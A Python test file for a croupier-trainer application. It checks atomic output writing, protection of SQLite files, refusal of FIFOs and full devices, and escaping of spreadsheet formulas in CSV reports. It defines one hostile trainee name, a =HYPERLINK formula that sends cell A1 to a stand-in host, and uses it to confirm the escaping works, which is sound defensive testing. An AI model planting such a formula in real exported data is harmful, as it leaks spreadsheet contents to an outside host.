"""Every output a command writes goes through one atomic writer that never replaces the
progress database (or any SQLite file), never writes onto a FIFO or a device, and leaves
the old file whole when the write fails. Real files, real commands."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from trainer.store import DB_FILENAME, Store

REPO = Path(__file__).resolve().parent.parent
HOSTILE_NAME = '=HYPERLINK("http://x.example/?"&A1,"click")'


def trainer(*args: str, display: bool = False) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k not in ("DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM")}
    env["PYTHONPATH"] = str(REPO)
    env["XDG_DATA_HOME"] = os.environ.get("TRAINER_TEST_XDG", "/nonexistent-xdg")  # never the user's own
    return subprocess.run([sys.executable, "-m", "trainer", *args], env=env, capture_output=True, text=True, timeout=180)


def one_line_error(result: subprocess.CompletedProcess, *expected: str) -> str:
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    for text in expected:
        assert text in lines[0], lines[0]
    return lines[0]


@pytest.fixture()
def data(tmp_path) -> Path:
    """A data folder with one trainee's session and a drill answer."""
    folder = tmp_path / "data"
    with Store.open(folder) as store:
        store.trainee(HOSTILE_NAME)
        session = store.start_session(HOSTILE_NAME, "cosmopol")
        store.save_drill_answer(HOSTILE_NAME, "blackjack", "cosmopol", 100, 150, 140, False, 3.0, session_id=session)
        store.end_session(session)
    return folder


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


# --- 1. no output replaces a database ------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ("report", "--trainee", HOSTILE_NAME, "--csv"),
        ("report", "--trainee", HOSTILE_NAME, "--pdf"),
        ("check", "--random", "--auto", "--save"),
        ("gui", "--size", "1280x800", "--screenshot"),
    ],
    ids=["csv", "pdf", "save", "screenshot"],
)
def test_no_output_replaces_the_progress_database(data, command):
    before = snapshot(data)
    target = str(data / DB_FILENAME)
    extra = ("--data", str(data)) if command[0] in ("report", "gui") else ()
    one_line_error(trainer(*command, target, *extra), target, "progress")
    assert snapshot(data) == before
    with Store.open_readonly(data) as store:
        assert store.find_trainee(HOSTILE_NAME) is not None


@pytest.mark.parametrize("command", [("check", "--random", "--auto", "--save"), ("report", "--trainee", "x", "--csv")])
def test_no_output_replaces_any_sqlite_file_or_journal_whatever_its_name(data, tmp_path, command):
    other = tmp_path / "notes.txt"  # someone else's database under an innocent name
    with Store.open(tmp_path / "other") as store:
        store.trainee("Bo")
    other.write_bytes((tmp_path / "other" / DB_FILENAME).read_bytes())
    extra = ("--data", str(data)) if command[0] == "report" else ()
    one_line_error(trainer(*command, str(other), *extra), str(other), "SQLite")
    assert other.read_bytes() == (tmp_path / "other" / DB_FILENAME).read_bytes()
    # the journal files of a database, even when they do not exist at the moment
    for suffix in ("-wal", "-shm", "-journal"):
        journal = str(data / DB_FILENAME) + suffix
        one_line_error(trainer(*command, journal, *extra), "journal")
        assert not os.path.exists(journal)


def test_the_user_data_folder_database_is_protected_without_data_option(tmp_path):
    xdg = tmp_path / "xdg"
    with Store.open(xdg / "croupier-trainer") as store:
        store.trainee("Ann")
    db = xdg / "croupier-trainer" / DB_FILENAME
    before = db.read_bytes()
    env = {**os.environ, "PYTHONPATH": str(REPO), "XDG_DATA_HOME": str(xdg)}
    result = subprocess.run(
        [sys.executable, "-m", "trainer", "check", "--random", "--auto", "--save", str(db)],
        env=env, capture_output=True, text=True, timeout=120,
    )
    one_line_error(result, "progress database")
    assert db.read_bytes() == before


# --- 5. PDF without a display, failed writes ---------------------------------------------------


def test_pdf_report_without_any_display_is_written(data, tmp_path):
    pdf = tmp_path / "report.pdf"
    result = trainer("report", "--trainee", HOSTILE_NAME, "--data", str(data), "--pdf", str(pdf))
    assert result.returncode == 0, result.stderr
    assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 1000
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary left


@pytest.mark.parametrize("output", ["--pdf", "--csv"])
def test_a_device_that_cannot_hold_the_output_is_exit_2(data, output):
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full here")
    one_line_error(trainer("report", "--trainee", HOSTILE_NAME, "--data", str(data), output, "/dev/full"), "/dev/full")


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path, monkeypatch):
    from trainer.core.files import outputs
    from trainer.core.files.errors import PackError

    target = tmp_path / "report.csv"
    target.write_text("old\n")

    def full(source, destination):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(outputs.os, "replace", full)
    with pytest.raises(PackError, match="No space left"):
        outputs.write_text_atomically(target, "new\n")
    assert target.read_text() == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["report.csv"]


# --- 6. FIFOs never hang -----------------------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
@pytest.mark.parametrize(
    "command",
    [
        ("check", "--random", "--auto", "--save"),
        ("report", "--trainee", HOSTILE_NAME, "--csv"),
        ("report", "--trainee", HOSTILE_NAME, "--pdf"),
        ("gui", "--size", "1280x800", "--screenshot"),
    ],
    ids=["save", "csv", "pdf", "screenshot"],
)
def test_an_output_onto_a_fifo_is_refused_at_once(data, tmp_path, command):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    extra = ("--data", str(data)) if command[0] in ("report", "gui") else ()
    try:
        one_line_error(trainer(*command, str(fifo), *extra), str(fifo), "FIFO")
    finally:  # should it hang anyway, open the other end so the test ends
        threading.Thread(target=lambda: os.close(os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)), daemon=True).start()


# --- 11. spreadsheet formulas --------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(data, tmp_path):
    out = tmp_path / "r.csv"
    result = trainer("report", "--trainee", HOSTILE_NAME, "--data", str(data), "--csv", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[1][0] == "'" + HOSTILE_NAME
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped(start):
    from trainer.progress.report import spreadsheet_safe

    assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"
    assert spreadsheet_safe("Åsa " + start) == "Åsa " + start
    assert spreadsheet_safe(-3) == -3


# --- 12. names with a newline --------------------------------------------------------------------


def test_a_file_name_with_a_newline_is_one_line(tmp_path):
    name = str(tmp_path / "round\nsaved.yaml")
    line = one_line_error(trainer("check", name, "--auto"), "round\\nsaved.yaml")
    assert "file not found" in line
    line = one_line_error(trainer("check", "--random", "--auto", "--save", str(tmp_path / "no\nfolder" / "x.yaml")))
    assert "no\\nfolder" in line
